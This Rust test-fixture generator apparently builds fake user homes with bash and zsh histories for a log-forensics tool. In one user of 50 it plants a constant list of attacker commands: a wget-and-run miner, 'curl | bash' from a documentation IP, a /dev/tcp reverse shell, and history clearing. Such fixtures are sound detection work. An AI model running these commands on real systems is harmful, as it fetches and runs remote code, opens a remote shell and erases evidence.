//! Generated, realistic shell histories for benches and tests of `ferret-logs`' history module.
//!
//! [`write_root`] lays out a root with `users` accounts in `/etc/passwd`, each with a bash
//! history (a third with `#EPOCH` lines) or a zsh extended history of `lines` commands drawn
//! from what admins and developers type (git, ls, cd, vim, systemctl, docker, apt, ssh, grep,
//! pipelines, loops) and, for one user in 50, a few attacker lines (download and run, reverse
//! shell, history clearing). The output depends on the arguments only (fixed-seed generator).

use std::fmt::Write as _;
use std::path::Path;

/// Ordinary commands (no classifier hit).
const ORDINARY: &[&str] = &[
    "ls -la",
    "cd /srv/app",
    "git status",
    "git pull --rebase",
    "git log --oneline -20",
    "vim config.yaml",
    "sudo systemctl restart nginx",
    "systemctl status postgresql",
    "journalctl -u nginx --since today",
    "docker ps -a",
    "docker compose up -d",
    "kubectl get pods -n prod",
    "sudo apt-get update && sudo apt-get upgrade -y",
    "ssh deploy@10.0.3.14",
    "scp build.tar.gz deploy@10.0.3.14:/srv/releases/",
    "grep -rn TODO src/ | wc -l",
    "tail -f /var/log/nginx/access.log",
    "df -h",
    "du -sh * | sort -h",
    "ps aux | grep java",
    "top",
    "htop",
    "cat /etc/os-release",
    "for f in *.log; do gzip \"$f\"; done",
    "find . -name '*.pyc' -delete",
    "python3 manage.py migrate",
    "make -j4 && make install PREFIX=$HOME/.local",
    "cargo build --release",
    "npm ci && npm run build",
    "export PATH=$HOME/bin:$PATH",
    "history | grep docker",
    "less /var/log/syslog",
    "curl -s https://api.example.com/health",
    "openssl x509 -in cert.pem -noout -dates",
    "tar xzf release-2.4.1.tar.gz -C /opt",
    "crontab -l",
    "echo $SHELL",
    "man rsync",
    "rsync -av --delete dist/ web01:/var/www/",
    "exit",
];

/// Attacker lines, planted in one user out of 50.
const HOSTILE: &[&str] = &[
    "wget http://203.0.113.77/x86_64 -O /tmp/.ICE-unix/.x/kswapd0",
    "chmod +x /tmp/.ICE-unix/.x/kswapd0",
    "/tmp/.ICE-unix/.x/kswapd0 -o stratum+tcp://pool.example.net:3333 -u 4A1fake",
    "curl -fsSL http://203.0.113.77/i.sh | bash",
    "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
    "history -c",
    "unset HISTFILE",
];

/// A small fixed-seed generator (xorshift64*).
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        let n = from.len().max(1) as u64;
        from.get((self.next() % n) as usize)
            .copied()
            .unwrap_or("ls")
    }
}

/// One history of `lines` commands for user number `user`: bash plain, bash with `#EPOCH`
/// lines, or zsh extended, by `user % 3`.
pub fn history(user: usize, lines: usize) -> Vec<u8> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ (user as u64 + 1));
    let hostile = user % 50 == 7;
    let mut out = Vec::with_capacity(lines * 32);
    let mut t = 1_700_000_000u64 + user as u64 * 97;
    for i in 0..lines {
        t += rng.next() % 600;
        // The attacker's lines come together, in the middle of the history.
        let at = i.wrapping_sub(lines / 2);
        let cmd = if hostile && at < HOSTILE.len() {
            HOSTILE.get(at).copied().unwrap_or("id")
        } else {
            rng.pick(ORDINARY)
        };
        match user % 3 {
            0 => out.extend_from_slice(cmd.as_bytes()),
            1 => {
                out.extend_from_slice(format!("#{t}\n").as_bytes());
                out.extend_from_slice(cmd.as_bytes());
            }
            _ => out.extend_from_slice(format!(": {t}:0;{cmd}").as_bytes()),
        }
        out.push(b'\n');
    }
    out
}

/// Writes a root under `dir`: `/etc/passwd` with `users` accounts `u0000`..., homes under
/// `/home`, each with the [`history`] of `lines` commands (`.zsh_history` for `user % 3 == 2`,
/// `.bash_history` otherwise). Returns the bytes of history written.
pub fn write_root(dir: &Path, users: usize, lines: usize) -> std::io::Result<u64> {
    std::fs::create_dir_all(dir.join("etc"))?;
    let mut passwd = String::from("root:x:0:0:root:/root:/bin/bash\n");
    let mut bytes = 0u64;
    for u in 0..users {
        let name = format!("u{u:04}");
        let shell = if u % 3 == 2 {
            "/usr/bin/zsh"
        } else {
            "/bin/bash"
        };
        let _ = writeln!(
            passwd,
            "{name}:x:{}:{}::/home/{name}:{shell}",
            1000 + u,
            1000 + u
        );
        let home = dir.join("home").join(&name);
        std::fs::create_dir_all(&home)?;
        let h = history(u, lines);
        bytes += h.len() as u64;
        let file = if u % 3 == 2 {
            ".zsh_history"
        } else {
            ".bash_history"
        };
        std::fs::write(home.join(file), h)?;
    }
    std::fs::write(dir.join("etc/passwd"), passwd)?;
    Ok(bytes)
}
